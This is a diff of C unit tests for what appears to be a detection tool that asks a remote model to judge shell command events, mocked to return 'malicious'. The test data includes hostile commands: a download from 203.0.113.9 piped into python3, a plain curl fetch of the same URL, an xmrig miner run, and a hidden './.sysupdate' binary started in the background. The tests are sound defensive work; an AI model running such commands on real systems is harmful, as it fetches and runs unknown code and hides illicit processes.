@@ -456,7 +456,7 @@ static void test_openai(void **st) {
     srv.label = "malicious";
     srv.refuse_logprobs = true;
     analyst *a = remote_analyst("openai", 0);
-    json_t *ev = cmd_event("curl http://203.0.113.9/x | python3", 1), *v = NULL;
+    json_t *ev = cmd_event("curl -s http://203.0.113.9/x", 1), *v = NULL;
     assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
     assert_string_equal(vstr(v, "verdict"), "malicious");
     assert_string_equal(vstr(v, "source"), "remote");
@@ -505,7 +505,7 @@ static void test_openai_logprobs(void **st) {
     srv.label = "malicious";
     srv.give_logprobs = true;
     analyst *a = remote_analyst("openai", 0);
-    json_t *ev = cmd_event("xmrig --donate-level 1", 1), *v = NULL;
+    json_t *ev = cmd_event("nohup ./.sysupdate -t 2 &", 1), *v = NULL;
     assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
     json_t *sc = json_object_get(v, "scores");
     assert_non_null(sc);
